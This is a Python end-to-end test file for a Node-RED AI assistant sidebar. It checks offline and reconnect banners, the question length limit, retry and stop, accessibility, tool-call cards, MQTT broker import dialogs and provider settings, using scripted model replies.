        seen = run_feature_in_stages(nodered, "offline", tab["id"], {"offline": restart_in_background(service)},
                                     QUESTION="are you back?")
    finally:
        service.start()

    assert "not reachable" in seen["offlineStatus"] and f":{service.port}" in seen["offlineStatus"]
    # The banner gives the commands for this Node-RED: the service on the port AI_SIDEBAR_SERVICE_URL names, its
    # container, and the opt-in supervisor; each copies. A pip command comes first when the palette package holds a
    # wheel (the palette's prepack, run by its tests and by test_packaging at the same time, builds one there).
    commands = {c["id"]: c["command"] for c in seen["commands"]}
    # With a wheel, the pip command makes a virtual environment in the user dir, which the others then use.
    pip = commands.pop("pip", None)
    venv = f"{nodered.userdir}/ai-sidebar/venv"
    assert pip is None or (pip.startswith(f'python3 -m venv "{venv}" && "{venv}/bin/pip" install "')
                           and pip.endswith('-py3-none-any.whl"'))
    service_script = f'"{venv}/bin/ai-sidebar-service"' if pip else "ai-sidebar-service"
    assert commands == {
        "run": f"AI_SIDEBAR_PORT={service.port} {service_script}",
        "docker": f"docker run --rm -p 127.0.0.1:{service.port}:8765 -e AI_SIDEBAR_TOKEN -e OPENAI_API_KEY "
                  f"-e NODE_RED_URL=http://host.docker.internal:{nodered.port} "
                  "--add-host=host.docker.internal:host-gateway node-red-ai-sidebar",
        "supervise": f'aiSidebar: {{ startService: true, python: "{venv}/bin/python" }}' if pip
                     else "aiSidebar: { startService: true }",
    }
    assert all(c["copyButton"] and c["label"] for c in seen["commands"])
    assert seen["copiedCommand"] == commands["run"]
    assert not seen["scenarioVisibleOffline"]
    # The banner shows the commands for this installation; the answer does not send an npm user to `make run`.
    assert "not reachable" in seen["offlineAnswer"] and "make run" not in seen["offlineAnswer"]
    # The question that could not be sent is still in the input.
    assert seen["inputAfterOfflineAnswer"] == "is anyone there?"
    assert seen["statusVisibleAfter"] is False
    assert seen["scenarios"] >= 5
    assert answer in seen["recoveredAnswer"] and seen["errors"] == []


def test_a_service_killed_while_streaming_shows_reconnecting_and_the_banner_goes_unasked_once_it_is_back(
        auth_stack, model):
    nodered, service = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    model.script(Reply(text=" ".join(f"word{i}" for i in range(1, 200)), token_delay=0.1))
    try:
        # The script says "streaming" once the answer's first words are shown: the service dies (as under
        # `make run`, whose loop restarts it); on "reconnecting" it comes back, and nobody touches the page.
        seen = run_feature_in_stages(nodered, "reconnect", tab["id"],
                                     {"streaming": service.kill, "reconnecting": restart_in_background(service)},
                                     QUESTION="tell me a long story")
    finally:
        service.start()

    # The answer says it was cut off and offers Retry; above the chat one quiet line, not the advice on starting
    # a service that answered a moment ago.
    assert "word3" in seen["cutOff"]["text"] and seen["cutOff"]["errors"] and seen["cutOff"]["retry"]
    assert seen["reconnecting"] == {"text": "Reconnecting to the AI assistant service…", "role": "status",
                                    "commands": 0, "reconnecting": True}
    requests = seen["requests"]
    # No second question: the banner went because the sidebar asked the plugin's service-status on its own, and
    # the last of those found the service back.
    assert [r for r in requests if r["path"] == "stream-chat"] == [
        {"method": "POST", "path": "stream-chat", "status": 200}]
    checks = [r for r in requests[seen["requestsBeforeRestart"]:] if r["path"] == "service-status"]
    assert checks and checks[-1]["status"] == 200
    # While it was down, each relayed route failed once (the answer's end reloads the list and the usage); the
    # checks never go through the relay, so the console shows no 502 per check.
    failed = [r["path"] for r in requests if r["status"] == 502]
    assert len(failed) == len(set(failed)) and set(failed) <= {"sessions", "usage"}, failed
    # Once it is back the session list is read again, though it had been read before the outage.
    last_failure = max(i for i, r in enumerate(requests) if r["status"] == 502)
    assert {"method": "GET", "path": "sessions", "status": 200} in requests[last_failure + 1:]


def test_a_question_over_the_limit_is_not_sent_and_stays_in_the_input_and_a_counter_shows_near_it(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")

    seen = run_feature(nodered, "composer", tab["id"])

    assert seen["short"]["counter"] is None
    assert seen["near"]["counter"] == "9,500 / 10,000" and not seen["near"]["over"]
    assert seen["over"]["counter"] == "10,064 / 10,000" and seen["over"]["over"]
    assert seen["over"]["counterColor"] == "rgb(173, 22, 37)"
    # Over the limit Send is disabled and Enter sends nothing (the service would refuse it: 413 message_too_long);
    # the text is kept to shorten, and once short enough Send is back.
    assert not seen["near"]["sendDisabled"] and seen["over"]["sendDisabled"]
    assert seen["keptText"] and seen["refused"]["over"] and seen["refused"]["questions"] == 0
    assert not seen["shortened"]["over"] and not seen["shortened"]["sendDisabled"]
    assert seen["prompted"]["counter"] is None and not seen["prompted"]["sendDisabled"]
    assert seen["header"]["newChatInside"]
    assert model.requests == []


def test_a_new_chat_asks_for_no_history_until_it_has_an_answer(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    answer = "The catch node handles the error."
    model.script(Reply(text=answer))

    seen = run_feature(nodered, "new-chat", tab["id"], QUESTION="What does the catch node do?")

    assert seen["firstVisit"] == [] and seen["firstVisitEmpty"]
    assert seen["afterNewChat"] == [] and seen["afterReopen"] == [] and seen["reopenedEmpty"]
    # Once saved, the conversation is loaded when the editor is opened again.
    assert [request["status"] for request in seen["afterAnswer"]] == [200]
    assert [message["role"] for message in seen["transcript"]] == ["user", "assistant"]
    assert answer in seen["transcript"][1]["text"]
    assert seen["sidebarConsoleErrors"] == []


def test_stop_marks_the_answer_and_names_the_session_and_a_failed_turn_reloads_saying_why(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    first, second = "Describe every node of this flow in detail", "And what about the debug node?"
    # The second turn runs a tool, then the model fails: the reloaded turn still shows the tool it ran.
    model.script(Reply(text=" ".join(f"word{i}" for i in range(300)), token_delay=0.05),
                 Reply(tool_calls=[{"name": "get_flow", "arguments": {"flow_id": tab["id"]}}]),
                 Reply(status=400, error_message="scripted bad request"))

    seen = run_feature(nodered, "stop", tab["id"], QUESTIONS=json.dumps([first, second]))

    assert seen["headerBefore"] == "Conversations"
    assert seen["stoppedMarks"] == ["stopped"] and seen["notes"] == []
    assert seen["retryAfterStop"] == ["Retry"]
    # The stopped turn was saved and the header shows its name without reopening anything.
    assert seen["headerAfterStop"] == first
    # The second question failed after a tool ran (something of the answer came): the input is not refilled
    # (that is for a question refused before anything came: test_retry_resends...), the error is shown.
    assert seen["failedInput"] == "" and seen["failedErrors"]
    user_one, answer_one, user_two, answer_two = seen["reloaded"]
    assert (user_one["role"], user_one["text"]) == ("user", first)
    assert answer_one["role"] == "assistant" and answer_one["text"].startswith("word0 word1")
    assert (user_two["role"], user_two["text"]) == ("user", second)
    # As shown live: the tool's card and the error in the words the stream used.
    assert answer_two == {"role": "assistant", "stopped": 0, "text": "", "badges": [], "tools": ["get_flow finished"],
                          "errors": seen["failedErrors"]}
    assert seen["failedErrors"] == ["The model provider answered with an error: scripted bad request"]
    # The mark comes back when the service stored the flag (optional in the history's metadata).
    stored_answer = next(m for m in seen["storedMessages"] if m["role"] == "assistant")
    assert answer_one["stopped"] == (1 if stored_answer["metadata"].get("stopped") is True else 0)
    assert seen["reloadedHeader"] == first


def test_retry_resends_the_same_question_and_context_after_a_failed_or_cut_off_answer(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "02 - Send multiple messages")
    answer = "The function node returns an array, one message per output."
    model.script(Reply(status=400, error_message="scripted bad request"), Reply(text=answer),
                 Reply(text="This answer is cut off after a few words and never ends", drop_after=4))

    seen = run_feature(nodered, "retry", tab["id"], QUESTIONS=json.dumps(["How many outputs are used?",
                                                                          "Explain the function node"]))

    failed = seen["failed"]
    # The question came back into the input, the error reads as a sentence, and Retry is offered.
    assert failed["input"] == "How many outputs are used?"
    assert failed["retry"] == ["Retry"] and failed["errors"] and "llm_error" not in " ".join(failed["errors"])
    first_body, retried_body, _ = seen["bodies"]
    # Retry sent the same question with the same context (the tab as the editor had it).
    assert retried_body == first_body
    assert first_body["selectedFlow"]["id"] == tab["id"] and first_body["flowData"]
    assert seen["retried"]["input"] == "" and answer in seen["retried"]["text"]
    assert seen["retried"]["retry"] == []
    assert seen["cutOff"]["retry"] == ["Retry"] and seen["cutOff"]["errors"]
    assert failed["errors"] == ["The model provider answered with an error: scripted bad request"]
    # After a reload the cut-off answer says what happened, in a sentence; the failed try, which its Retry replaced
    # live, is not shown again either (issue 31: a retried question appeared twice).
    [cut_off] = seen["reloaded"]
    assert [cut_off] == seen["cutOff"]["errors"]
    assert cut_off.startswith("The connection to the model server was lost before the answer was complete")


STREAMED_SENTENCES = [f"Sentence number {i} explains one more node of this flow." for i in range(40)]


def test_the_answer_is_read_out_focus_stays_escape_stops_wide_boxes_scroll_and_axe_finds_nothing_serious(
        auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    wide_table = ("| " + " | ".join(f"property{i}" for i in range(12)) + " |\n|" + "---|" * 12 + "\n| " +
                  " | ".join(f"value-number-{i}" for i in range(12)) + " |")
    wide_code = "```javascript\nconst total = " + " + ".join(f"msg.payload.reading{i}" for i in range(20)) + ";\n```"
    model.script(Reply(text=" ".join(STREAMED_SENTENCES), token_delay=0.05),
                 Reply(text="The catch node catches errors. It sends them on"),
                 Reply(text="Its properties:\n\n" + wide_table + "\n\nAnd the sum:\n\n" + wide_code))

    seen = run_feature(nodered, "a11y", tab["id"], NARROW_WIDTH="240",
                       QUESTIONS=json.dumps(["Explain every node", "And the catch node?", "List its properties"]))

    assert seen["inputLabel"] == "Question for the AI assistant"
    streaming = seen["whileStreaming"]
    assert streaming["live"] == "polite"
    # Whole sentences, each once, in order.
    assert streaming["read"] == STREAMED_SENTENCES[:len(streaming["read"])]
    # The input is disabled while the answer streams: focus went to Stop, in the tab.
    assert streaming["focusInTab"] and "ai-sidebar-stop" in streaming["focused"]
    assert seen["afterEscape"]["stopped"] == 1 and "ai-sidebar-input" in seen["afterEscape"]["focused"]
    # The last words are read even without a full stop.
    assert seen["readAfterSecond"] == ["The catch node catches errors.", "It sends them on"]
    # Wide tables and code scroll in their own box; the conversation itself never scrolls sideways.
    for layout in (seen["wideLayout"], seen["narrowLayout"]):
        assert (layout["conversation"], layout["table"], layout["code"]) == (False, True, True), layout
    for scan in (seen["wideFindings"], seen["narrowFindings"]):
        assert scan["version"] == "4.14.1"
        assert {"color-contrast", "label", "button-name", "aria-allowed-attr"} <= set(scan["passed"]), scan["passed"]
        assert scan["findings"] == []


def test_a_question_shows_its_context_the_chip_holds_while_streaming_and_new_chat_restores_it(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    model.script(Reply(text=" ".join(f"word{i}" for i in range(60)), token_delay=0.05))

    seen = run_feature(nodered, "context-seen", tab["id"], QUESTION="What do these two nodes do?")

    # Beside the two node chips the context chip does not count them; the question sent says how many went out.
    assert seen["chipBefore"] == "Flow: 01 - Catch error"
    # The selection changed while the answer streamed: the chip kept what the question went out with.
    assert seen["chipWhileStreaming"] == seen["chipBefore"]
    assert seen["chipAfter"] == "Flow: 01 - Catch error · no nodes selected"
    assert seen["sentContext"] == "Flow: 01 - Catch error · 2 nodes selected"
    assert seen["chipRemoved"] != seen["chipAfter"]
    assert seen["chipAfterNewChat"] == seen["chipAfter"]


LONG_NAME = ("Weather station telemetry from the greenhouse sensors with MQTT, dashboards and the alerting that "
             "pages the on-call gardener")


def test_the_tab_has_its_own_button_and_the_header_keeps_new_chat_with_a_long_name(auth_stack, two_ai_configs,
                                                                                  model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    model.script(Reply(text="A short answer."))

    # With ai-config nodes deployed the header holds the configuration picker too, with a long choice.
    seen = run_feature(nodered, "layout", tab["id"], QUESTION="hello", LONG_NAME=LONG_NAME, NARROW_WIDTH="220",
                       CONFIG_ID=CONFIG_IDS["beta"])

    assert seen["tabButtonVisible"] and seen["sidebarShownByButton"]
    for width in ("wide", "narrow"):
        layout = seen[width]
        assert layout["name"] == LONG_NAME, width
        assert layout["nameCut"] and layout["nameOverflow"] == "ellipsis", width
        assert layout["newChatText"] == "New chat" and not layout["newChatClipped"], width
        assert layout["header"]["left"] <= layout["newChat"]["left"], width
        assert layout["newChat"]["right"] <= layout["header"]["right"], width
    assert seen["narrow"]["sidebarWidth"] <= 240 < seen["wide"]["sidebarWidth"]
    for state in seen["deleteButton"]:
        assert state["color"] == "rgb(255, 255, 255)", state
        assert state["contrast"] >= 4.5, state
        assert state["clipped"] == [], state
    for screenshot in seen["detailScreenshots"]:
        assert os.path.getsize(screenshot) > 500, screenshot


GREENHOUSE_BROKER = {"id": "ai-broker-1", "type": "mqtt-broker", "name": "Greenhouse broker",
                     "broker": "broker.greenhouse.local", "port": "1883", "clientid": "", "usetls": False,
                     "keepalive": "60", "cleansession": True}


def mqtt_flow(broker: dict[str, Any]) -> list[dict[str, Any]]:
    """An answer's flow as a model writes it: an mqtt in node, a debug node and their broker config node."""
    return [
        {"id": "ai-mqtt-in-1", "type": "mqtt in", "z": "ai-tab", "name": "greenhouse readings",
         "topic": "greenhouse/+/temperature", "qos": "1", "datatype": "auto-detect", "broker": broker["id"],
         "nl": False, "rap": True, "rh": 0, "inputs": 0, "x": 150, "y": 60, "wires": [["ai-mqtt-debug-1"]]},
        {"id": "ai-mqtt-debug-1", "type": "debug", "z": "ai-tab", "name": "greenhouse debug", "active": True,
         "tosidebar": True, "complete": "payload", "targetType": "msg", "x": 380, "y": 60, "wires": []},
        broker,
    ]


def test_importing_an_answer_twice_re_uses_its_broker_and_a_differing_broker_is_the_users_choice(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    local = next(n for n in nodered.flows if n["type"] == "mqtt-broker")
    cloud = {**GREENHOUSE_BROKER, "id": "ai-broker-2", "name": "Cloud broker", "broker": "cloud.example.com",
             "port": "8883"}
    model.script(Reply(text="Import this flow:\n\n" + fenced(mqtt_flow(GREENHOUSE_BROKER))),
                 Reply(text="This one reads from the cloud:\n\n" + fenced(mqtt_flow(cloud))))

    seen = run_feature(nodered, "config-import", tab["id"], LOCAL_BROKER_ID=local["id"])

    start = seen["start"]
    assert [broker["id"] for broker in start["brokers"]] == [local["id"]]
    # The answer's broker differs from the workspace's: the user is asked before anything is imported.
    first = seen["firstDialog"]
    assert first["modal"] and first["buttons"] == ["Cancel", "Import"]
    assert first["rows"] == [{
        "label": "Greenhouse broker (mqtt-broker)", "labelFor": True, "selected": "",
        "options": [{"value": "", "text": "Add it as a new config node"},
                    {"value": local["id"],
                     "text": "Use the existing Local broker (mqtt-broker) "
                             "(differs in: name, broker, autoConnect, sessionExpiry)"}]}]
    assert "Credentials (user names, passwords, keys) cannot be compared" in first["text"]
    assert seen["stateWhileAsked"] == start
    after_first = seen["afterFirst"]
    added = [broker for broker in after_first["brokers"] if broker["id"] != local["id"]]
    assert [(broker["broker"], broker["users"]) for broker in added] == [("broker.greenhouse.local", 1)]
    (first_input,) = after_first["inputs"]
    assert first_input["broker"] == added[0]["id"]
    assert after_first["historyDepth"] == start["historyDepth"] + 1

    # The same answer again: no question, no second broker; the new mqtt in uses the first import's broker.
    assert seen["secondDialog"] is None
    after_second = seen["afterSecond"]
    assert sorted(b["id"] for b in after_second["brokers"]) == sorted(b["id"] for b in after_first["brokers"])
    second_input = next(i for i in after_second["inputs"] if i["id"] != first_input["id"])
    assert second_input["broker"] == added[0]["id"]
    assert next(b for b in after_second["brokers"] if b["id"] == added[0]["id"])["users"] == 2
    assert after_second["nodes"] == after_first["nodes"] + 2
    said = " ".join(seen["secondNotifications"])
    assert "Imported 2 nodes." in said
    assert "Used 1 existing config node instead of adding an identical copy:" in said
    assert "Greenhouse broker (mqtt-broker)" in said and "cannot be compared" in said

    # A third broker: both existing ones are offered, the closer first; Cancel imports nothing.
    third = seen["thirdDialog"]
    assert [option["value"] for option in third["rows"][0]["options"]] == ["", added[0]["id"], local["id"]]
    assert third["rows"][0]["options"][1]["text"].endswith("(differs in: name, broker, port)")
    assert seen["afterCancel"] == after_second and seen["viewStateAfterCancel"] == 0
    # Choosing the workspace's Local broker: no broker added, the new node points at it.
    chosen = seen["afterChoosingExisting"]
    assert sorted(b["id"] for b in chosen["brokers"]) == sorted(b["id"] for b in after_second["brokers"])
    new_input = next(i for i in chosen["inputs"] if i["id"] not in (first_input["id"], second_input["id"]))
    assert new_input["broker"] == local["id"]
    assert not any("identical copy" in text for text in seen["lastNotifications"])


def test_a_slow_model_shows_in_words_what_the_answer_waits_for_until_its_first_token(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    answer = "Nothing obvious can go wrong in this flow."
    # Agent mode: the model thinks 3.5 s, calls get_flow for a tab that does not exist, thinks 2.5 s, answers;
    # the next question's model call fails after 2 s.
    model.script(Reply(tool_calls=[{"name": "get_flow", "arguments": {"flow_id": "no-such-flow"}}], delay=3.5),
                 Reply(text=answer, delay=2.5),
                 Reply(status=400, error_message="scripted bad request", delay=2))

    seen = run_feature(nodered, "waiting", tab["id"], QUESTION="What could go wrong here?",
                       FAILING_QUESTION="And what else?")

    during = seen["during"]
    assert re.fullmatch(r"Waiting for the model… [2-9] s", during["line"]), during
    assert during["lineHidden"] == "true" and during["dot"] == "none"
    assert during["status"] == {"text": "Waiting for the model…", "live": "polite", "visible": False}
    log = seen["log"]
    # Said in words, in order: the model, the tool it called (the catalog's name for get_flow), the model again.
    assert log["labels"] == ["Waiting for the model…", "Reading flow…", "Waiting for the model…"]
    # Screen readers hear each change, with how long it has been once a wait passes 10 s, 20 s, ...
    announced = [re.sub(r" [1-9]0 s$", "", text) for text in log["announced"]]
    assert [text for i, text in enumerate(announced) if i == 0 or text != announced[i - 1]] == log["labels"]
    # One clock from the question to the first text, ticking each second (a busy machine may skip one).
    shown = [int(re.search(r"(\d+) s$", s["waiting"]).group(1)) for s in log["snapshots"] if s["waiting"]]
    seconds = [value for i, value in enumerate(shown) if i == 0 or value != shown[i - 1]]
    assert seconds[0] == 0 and seconds[-1] >= 5
    assert all(0 < later - earlier <= 2 for earlier, later in zip(seconds, seconds[1:])), seconds
    # Shown below everything else until the first text, and never together with it.
    waiting = [s for s in log["snapshots"] if s["waiting"] is not None]
    assert waiting and all(s["lastChild"] and not s["text"] for s in waiting)
    first_text = next(i for i, s in enumerate(log["snapshots"]) if s["text"])
    assert all(s["waiting"] is None for s in log["snapshots"][first_text:])
    assert answer in log["snapshots"][-1]["text"]
    assert seen["after"] == {"line": None, "lineHidden": None, "dot": "none",
                             "status": {"text": "", "live": "polite", "visible": False}}

    # The tool's failure is on its card without opening it; the mark follows the event's origin, if it has one.
    events = seen["events"][0]
    call = next(e for e in events if e["type"] == "tool_call")
    failure = next(e for e in events if e["type"] == "tool_result")
    assert failure["ok"] is False and "no-such-flow" in failure["result"]
    (card,) = seen["cards"]
    assert (card["label"], card["failed"], card["open"]) == ("get_flow failed", True, False)
    # A long failure (this one lists every tab) is cut on the card and shown in full in its Result section.
    reason = failure["result"].strip()
    assert card["failure"] == (reason if len(reason) <= 300 else reason[:300] + "…") and card["failureVisible"]
    assert card["sections"] == ["Parameters"] + (["Result"] if len(reason) > 300 else [])
    assert card["originAttribute"] == call.get("origin")
    assert card["origin"] == {"agent": "chosen by the assistant"}.get(call.get("origin"))

    # A model call that fails: the line goes with the error.
    failed = seen["failedLog"]
    assert failed["labels"] == ["Waiting for the model…"]
    assert all(s["errors"] == 0 for s in failed["snapshots"] if s["waiting"] is not None)
    assert failed["snapshots"][-1]["waiting"] is None and failed["snapshots"][-1]["errors"] == 1
    assert seen["failedAfter"]["line"] is None and seen["failedAfter"]["status"]["text"] == ""


VALIDATION_FAILURE = ("search_memory: parameter 'query': Field required. The model sent " + "x" * 400 +
                      " and nothing else.")
CONTRACT_EVENTS = [
    {"type": "tool_call", "tool": "get_flow", "params": {"flow_id": "t1"}, "origin": "keyword"},
    {"type": "tool_result", "tool": "get_flow", "result": "[{\"id\": \"t1\", \"type\": \"tab\"}]", "ok": True},
    {"type": "tool_call", "tool": "get_node_info", "params": {"node_ids": ["n404"]}, "origin": "agent"},
    {"type": "tool_result", "tool": "get_node_info", "result": "No node has the id n404; it may not be deployed yet.",
     "ok": False},
    {"type": "tool_call", "tool": "get_settings", "params": {}, "origin": "direct"},
    {"type": "tool_result", "tool": "get_settings", "result": "{}", "ok": True},
    # An older service: no origin.
    {"type": "tool_call", "tool": "get_flows", "params": {}},
    {"type": "tool_result", "tool": "get_flows", "result": "[]", "ok": True},
    # Arguments that failed validation come raw, then the failure (contracts.md "Stream event additions").
    {"type": "tool_call", "tool": "search_memory", "params": "{\"quer", "origin": "agent"},
    {"type": "tool_result", "tool": "search_memory", "result": VALIDATION_FAILURE, "ok": False},
    # A coded failure: its sentence in the user's language on the card, what the model read under Result.
    {"type": "tool_call", "tool": "delete_nodes", "params": {"node_ids": ["n1"]}, "origin": "agent"},
    {"type": "tool_result", "tool": "delete_nodes", "ok": False, "code": "flow_locked",
     "result": 'The tool delete_nodes did not run: "Plant" [t1] is locked in the Node-RED editor.',
     "message": '"Plant" [t1] ist im Node-RED-Editor gesperrt.'},
    {"type": "token", "content": "Here is what I found."},
    {"type": "done", "sessionId": "contract-events"},
]


def test_tool_cards_say_who_started_each_tool_and_why_one_failed(auth_stack):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")

    seen = run_feature(nodered, "tool-cards", tab["id"], QUESTION="What do my flows read?",
                       EVENTS=json.dumps(CONTRACT_EVENTS))

    summary = [(c["label"], c["origin"], c["originAttribute"], c["failure"], c["sections"]) for c in seen["cards"]]
    assert summary == [
        ("get_flow finished", "from your question", "keyword", None, ["Parameters", "Result"]),
        ("get_node_info failed", "chosen by the assistant", "agent",
         "No node has the id n404; it may not be deployed yet.", ["Parameters"]),
        ("get_settings finished", "asked by you", "direct", None, ["Result"]),
        ("get_flows finished", None, None, None, ["Result"]),
        ("search_memory failed", "chosen by the assistant", "agent", VALIDATION_FAILURE[:300] + "…",
         ["Parameters", "Result"]),
        ("delete_nodes failed", "chosen by the assistant", "agent", '"Plant" [t1] ist im Node-RED-Editor gesperrt.',
         ["Parameters", "Result"]),
    ]
    failed = [c for c in seen["cards"] if c["failure"]]
    assert all(c["failureVisible"] and not c["open"] and c["failed"] for c in failed)
    assert seen["cards"][1]["originTooltip"] == "The assistant chose to run this tool to answer your question."


@contextlib.contextmanager
def config_dialog(nodered: NodeRed, config: dict[str, Any]) -> Iterator[Callable[[], dict[str, Any]]]:
    """`config` deployed with the flows through the Admin API (the original flows deployed again after); yields
    a function that opens its edit dialog in the browser (node_dialogs.js) and returns what it shows."""
    token = admin_token(nodered)
    original = admin_request(nodered, token, "GET", "/flows")
    env = {"EDITOR_URL": nodered.url, "CONFIG_ID": config["id"], "USERNAME": USERNAME, "PASSWORD": PASSWORD}

    def open_dialog() -> dict[str, Any]:
        seen = run_browser("node_dialogs.js", env)
        assert "failure" not in seen, seen["failure"]
        assert seen["pageErrors"] == [], seen["pageErrors"]
        return seen

    deploy(nodered, token, original + [config])
    try:
        yield open_dialog
    finally:
        deploy(nodered, token, original)


def test_the_ai_config_dialog_lists_the_services_providers_and_scenarios_and_keeps_saved_ones_when_it_is_down(
        auth_stack, model_server):
    nodered, service = auth_stack
    offered = admin_request(nodered, admin_token(nodered), "GET", "/ai-sidebar/scenarios?lang=en-US")
    config = {**ai_config("alpha", model_server.base_url), "scenarios": "learning,sales"}
    with config_dialog(nodered, config) as open_dialog:
        online = open_dialog()
        service.stop()
        try:
            offline = open_dialog()
        finally:
            service.start()

    assert online["unavailableShown"] is False
    assert online["providers"] == offered["providers"] and online["provider"] == "openai-compatible"
    keys = list(offered["scenarios"])
    assert [s["key"] for s in online["scenarios"]] == [*keys, "sales"]
    assert [s["name"] for s in online["scenarios"]] == [*(s["name"] for s in offered["scenarios"].values()), "sales"]
    assert [s["key"] for s in online["scenarios"] if s["checked"]] == ["learning", "sales"]

    # Service down: the dialog opens, says the lists could not be loaded, and keeps what was saved.
    assert offline["unavailableShown"] is True
    assert offline["providers"] == ["openai-compatible"] and offline["provider"] == "openai-compatible"
    assert offline["scenarios"] == [{"key": "learning", "name": "learning", "checked": True},
                                    {"key": "sales", "name": "sales", "checked": True}]


def test_the_ai_config_dialog_offers_anthropic_with_its_base_url_hint_and_marks_a_saved_provider_it_lacks(
        auth_stack, model_server):
    nodered, _ = auth_stack
    offered = admin_request(nodered, admin_token(nodered), "GET", "/ai-sidebar/scenarios?lang=en-US")
    assert offered["providers"] == ["openai", "deepseek", "google", "anthropic", "azure-openai", "openai-compatible"]
    with config_dialog(nodered, {**ai_config("alpha", model_server.base_url), "provider": "anthropic"}) as open_dialog:
        claude = open_dialog()
    # Saved with a provider of another service version that this one does not answer with.
    with config_dialog(nodered, {**ai_config("beta", model_server.base_url), "provider": "mistral"}) as open_dialog:
        other = open_dialog()

    offered_options = [
        {"value": "openai", "label": "OpenAI", "unavailable": False},
        {"value": "deepseek", "label": "DeepSeek", "unavailable": False},
        {"value": "google", "label": "Google Gemini", "unavailable": False},
        {"value": "anthropic", "label": "Anthropic Claude", "unavailable": False},
        {"value": "azure-openai", "label": "Azure OpenAI", "unavailable": False},
        {"value": "openai-compatible", "label": "OpenAI-compatible (Ollama, vLLM, LM Studio, ...)",
         "unavailable": False},
    ]
    assert claude["provider"] == "anthropic" and claude["providerOptions"] == offered_options
    assert claude["baseUrlHint"] == "Optional: a proxy or gateway in front of the Anthropic API."
    # The saved value stays chosen, after the offered ones and marked, so that nothing changes unseen.
    assert other["provider"] == "mistral"
    assert other["providerOptions"] == offered_options + [
        {"value": "mistral", "label": "mistral (not available in this installation)", "unavailable": True}]


def test_the_question_limit_is_the_one_the_service_states(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")

    seen = run_feature(nodered, "limit", tab["id"], LIMIT="2000")

    assert seen["serviceLimit"] == 10000
    assert seen["belowShare"] is None
    assert seen["over"] == "2,005 / 2,000"


def test_a_reloaded_question_shows_its_context_and_a_debug_message_can_be_explained_or_attached(auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "02 - Set any property value")
    inject = next(n for n in nodered.nodes_of(tab["id"]) if n["type"] == "inject")
    debug = next(n for n in nodered.nodes_of(tab["id"]) if n["type"] == "debug")
    model.script(Reply(text="The change node sets the payload and the topic."),
                 Reply(text="This debug message shows the payload the change node set."),
                 Reply(text="The topic comes from the change node."))

    seen = run_feature(nodered, "context-history", tab["id"], INJECT_ID=inject["id"], DEBUG_ID=debug["id"],
                       NARROW_WIDTH="240",
                       QUESTIONS=json.dumps(["What do these nodes do?", "Where does its topic come from?"]))

    assert seen["aiTabShown"]
    label = f"Flow: {tab['label']}"
    # The debug message went out with "Explain", as data; the question was the catalog's.
    explained = model.requests[1]["messages"][-1]["content"]
    assert explained.startswith("Explain this debug message\n\nDebug messages attached to this question")
    assert "<debug_message>" in explained and "msg.payload" in explained
    typed = model.requests[2]["messages"][-1]["content"]
    assert typed.startswith("Where does its topic come from?\n\nDebug messages attached") and "<debug_message>" in typed
    assert seen["inputKept"] == "Where does its topic come from?"
    assert len(seen["attached"]) == 1 and seen["chipWithDebug"].endswith("· 1 debug message")
    assert seen["attachedAfterSend"] == 0
    assert seen["live"] == [f"{label} · 2 nodes selected", f"{label} · no nodes selected · 1 debug message",
                            f"{label} · no nodes selected · 1 debug message"]
    # After a reload the stored questions say the same.
    assert seen["reloaded"] == seen["live"]
    for chip in (seen["wideChip"], seen["narrowChip"]):
        # The three selected nodes have chips of their own: the context chip holds the flow's name alone.
        assert chip["detail"] == "" and chip["chipInside"], chip
    assert seen["narrowWidth"] <= 260
    assert seen["narrowChip"]["nameCut"] and seen["narrowChip"]["nameOverflow"] == "ellipsis"


def test_the_header_names_the_model_that_answers_at_1280x720_and_narrow(auth_stack, two_ai_configs, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    token = admin_token(nodered)
    service_model = admin_request(nodered, token, "GET", "/ai-sidebar/scenarios?lang=en-US")["model"]

    seen = run_feature(nodered, "header-model", tab["id"], CONFIG_ID=CONFIG_IDS["beta"], NARROW_WIDTH="200")

    default = seen["serviceDefault"]
    assert default["text"] == f"{service_model['provider']}/{service_model['model']}" and default["visible"]
    chosen = seen["chosen"]
    assert chosen["text"] == "openai-compatible/scripted-beta"
    assert chosen["title"] == "Answers come from scripted-beta (openai-compatible)"
    narrow = seen["narrow"]
    assert seen["narrowWidth"] <= 240
    for layout in (default, chosen, narrow):
        assert layout["inside"] and layout["belowHeader"] and layout["newChatInside"], layout
        assert layout["overflow"] == "ellipsis" and layout["fontSize"] == "11px"
    assert narrow["text"] == chosen["text"] and narrow["visible"]


def test_conversations_keep_their_drafts_reopen_at_the_latest_message_and_the_list_closes_on_escape_or_outside(
        auth_stack, model):
    nodered, _ = auth_stack
    tab = tab_named(nodered, "01 - Catch error")
    long_answer = "\n\n".join(f"Paragraph {i}: the catch node sends the error on with msg.error." for i in range(12))
    model.script(*(Reply(text=long_answer) for _ in range(3)))
    drafts = ["How do I retry the failed call", "Something for the new chat"]

    seen = run_feature(nodered, "conversations", tab["id"], NARROW_WIDTH="240", DRAFTS=json.dumps(drafts),
                       QUESTIONS=json.dumps(["What does the catch node do?", "And the function?", "And debug?"]))

    assert seen["newChat"]["draft"] == ""
    assert seen["listOpen"]["drawerOpen"]
    # Back in the first conversation: its draft is back, and it shows its latest message.
    back = seen["back"]
    assert back["draft"] == drafts[0] + "!" and back["scrolls"] and back["atBottom"], back
    # It stays there when its last answer grows, unless the user clicked inside the list.
    assert seen["grown"]["atBottom"], seen["grown"]
    assert not seen["grownAfterClick"]["atBottom"], seen["grownAfterClick"]
